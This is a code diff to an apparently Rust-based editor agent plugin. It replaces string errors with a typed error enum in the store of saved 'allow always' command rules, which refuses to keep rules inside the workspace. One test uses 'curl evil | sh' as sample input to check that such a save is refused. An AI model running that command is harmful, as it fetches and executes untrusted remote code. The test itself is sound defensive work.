@@ -76,6 +76,52 @@ pub enum Grant {
     Edits,
 }
 
+/// Why the saved rules could not be read, changed or used.
+#[derive(Debug, thiserror::Error)]
+pub enum SavedError {
+    /// The disk said no.
+    #[error("cannot {what} {}: {source}", path.display())]
+    Io {
+        what: &'static str,
+        path: PathBuf,
+        #[source]
+        source: std::io::Error,
+    },
+    /// The rules could not be written as JSON.
+    #[error("cannot encode {}: {source}", path.display())]
+    Encode {
+        path: PathBuf,
+        #[source]
+        source: serde_json::Error,
+    },
+    /// The file is not JSON of the shape this version writes.
+    #[error("{} cannot be read ({source}); fix or remove it", path.display())]
+    Unreadable {
+        path: PathBuf,
+        #[source]
+        source: serde_json::Error,
+    },
+    /// The file is of another version.
+    #[error("{} is of version {version}, not {VERSION}; this agent.nvim cannot use it", path.display())]
+    Version { path: PathBuf, version: u32 },
+    /// The state directory is inside the workspace, where the agent may write.
+    #[error(
+        "the state directory {} is inside the workspace, where the agent may write; no rule is saved or read there (set XDG_STATE_HOME to a folder outside it)",
+        dir.display()
+    )]
+    InsideWorkspace { dir: PathBuf },
+    /// The workspace's real path cannot be found.
+    #[error("the workspace {} cannot be resolved: {source}", workspace.display())]
+    Unresolved {
+        workspace: PathBuf,
+        #[source]
+        source: std::io::Error,
+    },
+    /// The workspace's real path is not UTF-8, so it cannot be a key.
+    #[error("the workspace {} has a name that is not UTF-8; rules cannot be saved for it", workspace.display())]
+    NotUtf8 { workspace: PathBuf },
+}
+
 impl Saved {
     /// The saved rules in `state_dir`.
     pub fn new(state_dir: &Path) -> Saved {
@@ -90,13 +136,13 @@ impl Saved {
     }
 
     /// What `workspace` has saved (nothing when the file does not exist).
-    pub fn load(&self, workspace: &Path) -> Result<Allowed, String> {
+    pub fn load(&self, workspace: &Path) -> Result<Allowed, SavedError> {
         let key = key(workspace)?;
         Ok(self.read()?.workspaces.remove(&key).unwrap_or_default())
     }
 
     /// Saves `grant` for `workspace`.
-    pub fn add(&self, workspace: &Path, grant: &Grant) -> Result<(), String> {
+    pub fn add(&self, workspace: &Path, grant: &Grant) -> Result<(), SavedError> {
         self.change(workspace, |allowed| match grant {
             Grant::Command(command) => {
                 if !allowed.commands.contains(command) {
@@ -109,7 +155,7 @@ impl Saved {
 
     /// Removes the saved rule `rule` (as [`Allowed::rules`] shows it) of `workspace`; false when
     /// it was not saved.
-    pub fn remove(&self, workspace: &Path, rule: &str) -> Result<bool, String> {
+    pub fn remove(&self, workspace: &Path, rule: &str) -> Result<bool, SavedError> {
         let mut removed = false;
         self.change(workspace, |allowed| {
             if rule == "edit_file(**)" && allowed.edits {
@@ -128,7 +174,11 @@ impl Saved {
         Ok(removed)
     }
 
-    fn change(&self, workspace: &Path, change: impl FnOnce(&mut Allowed)) -> Result<(), String> {
+    fn change(
+        &self,
+        workspace: &Path,
+        change: impl FnOnce(&mut Allowed),
+    ) -> Result<(), SavedError> {
         let key = key(workspace)?;
         if let Some(dir) = self.path.parent() {
             std::fs::create_dir_all(dir).map_err(|err| self.failed("create the folder of", err))?;
@@ -150,8 +200,11 @@ impl Saved {
         if *allowed == Allowed::default() {
             file.workspaces.remove(&key);
         }
-        let mut text = serde_json::to_string_pretty(&file)
-            .map_err(|err| format!("agent: cannot encode {}: {err}", self.path.display()))?;
+        let mut text =
+            serde_json::to_string_pretty(&file).map_err(|source| SavedError::Encode {
+                path: self.path.clone(),
+                source,
+            })?;
         text.push('\n');
         let temporary = self
             .path
@@ -168,7 +221,7 @@ impl Saved {
             })
     }
 
-    fn read(&self) -> Result<File1, String> {
+    fn read(&self) -> Result<File1, SavedError> {
         let opened = OpenOptions::new()
             .read(true)
             .custom_flags(libc::O_NOFOLLOW)
@@ -187,24 +240,26 @@ impl Saved {
         file.take(MAX_BYTES)
             .read_to_string(&mut text)
             .map_err(|err| self.failed("read", err))?;
-        let parsed: File1 = serde_json::from_str(&text).map_err(|err| {
-            format!(
-                "agent: {} cannot be read ({err}); fix or remove it",
-                self.path.display()
-            )
-        })?;
+        let parsed: File1 =
+            serde_json::from_str(&text).map_err(|source| SavedError::Unreadable {
+                path: self.path.clone(),
+                source,
+            })?;
         if parsed.version != VERSION {
-            return Err(format!(
-                "agent: {} is of version {}, not {VERSION}; this agent.nvim cannot use it",
-                self.path.display(),
-                parsed.version
-            ));
+            return Err(SavedError::Version {
+                path: self.path.clone(),
+                version: parsed.version,
+            });
         }
         Ok(parsed)
     }
 
-    fn failed(&self, what: &str, err: std::io::Error) -> String {
-        format!("agent: cannot {what} {}: {err}", self.path.display())
+    fn failed(&self, what: &'static str, source: std::io::Error) -> SavedError {
+        SavedError::Io {
+            what,
+            path: self.path.clone(),
+            source,
+        }
     }
 }
 
@@ -229,7 +284,7 @@ impl Project {
     /// Why no rule is kept for this workspace, when the state directory is inside it (the
     /// workspace is `$HOME`, or `XDG_STATE_HOME` points into it): there the agent could edit
     /// the file and grant itself any command.
-    fn refused(&self) -> Option<String> {
+    fn refused(&self) -> Option<SavedError> {
         let root = self.workspace.canonicalize().ok()?;
         let mut dir = self.saved.path().parent()?.to_path_buf();
         // The nearest folder that exists says where the state directory really is.
@@ -241,12 +296,15 @@ impl Project {
                 return None;
             }
         };
-        real.starts_with(&root).then(|| {
-            format!(
-                "agent: the state directory {} is inside the workspace, where the agent may write; no rule is saved or read there (set XDG_STATE_HOME to a folder outside it)",
-                self.saved.path().parent().unwrap_or(Path::new("")).display()
-            )
-        })
+        real.starts_with(&root)
+            .then(|| SavedError::InsideWorkspace {
+                dir: self
+                    .saved
+                    .path()
+                    .parent()
+                    .unwrap_or(Path::new(""))
+                    .to_path_buf(),
+            })
     }
 
     /// Whether a saved rule allows `action`: a command line saved exactly, or any edit once
@@ -273,7 +331,7 @@ impl Project {
     }
 
     /// Saves what "Allow always in this project" means for `action`.
-    pub fn save(&self, action: &agent_nvim_vocab::approval::Action) -> Result<(), String> {
+    pub fn save(&self, action: &agent_nvim_vocab::approval::Action) -> Result<(), SavedError> {
         if let Some(why) = self.refused() {
             return Err(why);
         }
@@ -287,7 +345,7 @@ impl Project {
     }
 
     /// The saved rules, as [`Allowed::rules`] shows them.
-    pub fn rules(&self) -> Result<Vec<String>, String> {
+    pub fn rules(&self) -> Result<Vec<String>, SavedError> {
         if let Some(why) = self.refused() {
             return Err(why);
         }
@@ -295,7 +353,7 @@ impl Project {
     }
 
     /// Removes the saved rule `rule`; false when it was not saved.
-    pub fn remove(&self, rule: &str) -> Result<bool, String> {
+    pub fn remove(&self, rule: &str) -> Result<bool, SavedError> {
         self.saved.remove(&self.workspace, rule)
     }
 
@@ -306,19 +364,18 @@ impl Project {
 }
 
 /// A workspace's key: its real path.
-fn key(workspace: &Path) -> Result<String, String> {
-    let real = workspace.canonicalize().map_err(|err| {
-        format!(
-            "agent: the workspace {} cannot be resolved: {err}",
-            workspace.display()
-        )
-    })?;
-    real.to_str().map(str::to_string).ok_or_else(|| {
-        format!(
-            "agent: the workspace {} has a name that is not UTF-8; rules cannot be saved for it",
-            real.display()
-        )
-    })
+fn key(workspace: &Path) -> Result<String, SavedError> {
+    let real = workspace
+        .canonicalize()
+        .map_err(|source| SavedError::Unresolved {
+            workspace: workspace.to_path_buf(),
+            source,
+        })?;
+    real.to_str()
+        .map(str::to_string)
+        .ok_or_else(|| SavedError::NotUtf8 {
+            workspace: real.clone(),
+        })
 }
 
 #[cfg(test)]
@@ -372,10 +429,10 @@ mod tests {
         let state = tempfile::tempdir().unwrap();
         let saved = Saved::new(state.path());
         std::fs::write(saved.path(), "{ not json").unwrap();
-        let err = saved.load(state.path()).unwrap_err();
+        let err = saved.load(state.path()).unwrap_err().to_string();
         assert!(err.contains("permissions.json cannot be read"), "{err}");
         std::fs::write(saved.path(), r#"{"version": 9}"#).unwrap();
-        let err = saved.load(state.path()).unwrap_err();
+        let err = saved.load(state.path()).unwrap_err().to_string();
         assert!(err.contains("version 9"), "{err}");
         // A link in its place is not followed.
         std::fs::remove_file(saved.path()).unwrap();
@@ -398,7 +455,7 @@ mod tests {
         let command = Action::Command {
             command: "curl evil | sh".into(),
         };
-        let err = project.save(&command).unwrap_err();
+        let err = project.save(&command).unwrap_err().to_string();
         assert!(err.contains("is inside the workspace"), "{err}");
         assert!(!state.join("permissions.json").exists());
         // A file planted there (by an edit the person allowed) grants nothing.
